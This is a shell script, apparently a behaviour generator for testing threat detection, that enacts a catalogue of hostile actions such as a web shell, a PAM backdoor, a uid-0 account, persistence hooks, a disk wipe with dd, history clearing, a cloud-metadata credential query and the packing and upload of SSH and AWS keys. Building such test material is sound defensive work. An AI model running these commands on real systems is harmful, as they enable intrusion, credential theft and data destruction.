# One short habit of hostile programs per word, everything on decoys. usage: sh habits.sh HABIT
case "$1" in
web-shell)
    mkdir -p /var/www/html
    echo '<?php system($_GET["c"]); ?>' > /var/www/html/img.php ;;
udev-rule)
    echo 'ACTION=="add", RUN+="/tmp/.update"' > /etc/udev/rules.d/99-update.rules ;;
python-startup)
    site=$(python3 -m site --user-site) && mkdir -p "$site" && echo 'import os' > "$site/update.pth" ;;
login-module)
    echo 'auth sufficient /tmp/.pam.so' >> /etc/pam.d/common-auth ;;
motd)
    mkdir -p /etc/update-motd.d
    printf '#!/bin/sh\n/tmp/.update\n' > /etc/update-motd.d/99-update ;;
at-job)
    mkdir -p /var/spool/cron/atjobs
    echo /tmp/.update > /var/spool/cron/atjobs/a0001 ;;
replace-program)
    cp /bin/echo /usr/bin/ps ;;
hosts)
    echo '127.0.0.1 security.debian.org' >> /etc/hosts ;;
certificate)
    mkdir -p /usr/local/share/ca-certificates
    echo decoy > /usr/local/share/ca-certificates/update.crt ;;
destroy)
    find documents -type f -exec shred -u {} + ; rm -rf documents ;;
wipe-disk)
    dd if=/dev/zero of=/dev/sda bs=1M count=1; dd if=/dev/zero of=/dev/vda bs=1M count=1 ;;
other-environments)
    for entry in /proc/[0-9]*; do cat "$entry/environ" "$entry/maps"; done ;;
hidden-exec)
    cp /bin/echo /dev/shm/.x && /dev/shm/.x run ;;
encoded-python)
    python3 -c 'import base64; exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik="))' ;;
renamed-utility)
    cp "$(command -v busybox)" ./sshd && ./sshd id || { cp /bin/dash ./sshd && ./sshd -c id; } ;;
miner-by-name)
    cp /bin/sleep ./xmrig && ./xmrig 1 --donate-level=1 -o stratum+tcp://pool.example.com:3333 ;;
own-root)
    unshare -r id; unshare -m true ;;
enter-init)
    nsenter -t 1 -a id ;;
load-module)
    : > rootkit.ko; insmod ./rootkit.ko; modprobe rootkit ;;
steal)
    python3 -m http.server --bind 127.0.0.1 8000 >/dev/null 2>&1 &
    cat "$HOME/.ssh/id_rsa" "$HOME/.aws/credentials" documents/*/* | gzip > loot.gz
    for try in 1 2 3 4 5 6 7 8 9 10; do
        curl -sf http://127.0.0.1:8000/ >/dev/null && break
        sleep 0.3
    done
    curl -s --data-binary @loot.gz http://127.0.0.1:8000/up >/dev/null
    kill $! ;;
metadata)
    curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/ ;;
keylogger)
    cat /dev/input/event0 /dev/input/mice | head -c 10 ;;
firewall)
    iptables -F; nft flush ruleset; ufw disable ;;
no-history)
    bash -c 'unset HISTFILE; export HISTSIZE=0; history -c; ln -sf /dev/null ~/.bash_history' ;;
search-secrets)
    grep -rIl -e 'PRIVATE KEY' -e password / --include='*.pem' --include='*.env' --include=id_rsa 2>/dev/null | head -3
    find / -name id_rsa -o -name '*.kdbx' -o -name credentials 2>/dev/null | head -3 ;;
sniffer)
    tcpdump -i lo -c 1; python3 -c 'import socket; socket.socket(17, 3, 3)' ;;
world-writable)
    chmod 777 /etc/passwd /etc; chmod -R 777 /usr/local/bin ;;
new-account)
    useradd -o -u 0 toor; echo 'toor:x:0:0::/:/bin/sh' >> /etc/passwd ;;
backups)
    rm -rf /var/backups/*; find / -name '*.bak' -delete 2>/dev/null ;;
*)
    echo "unknown habit $1"; exit 2 ;;
esac 2>/dev/null
exit 0
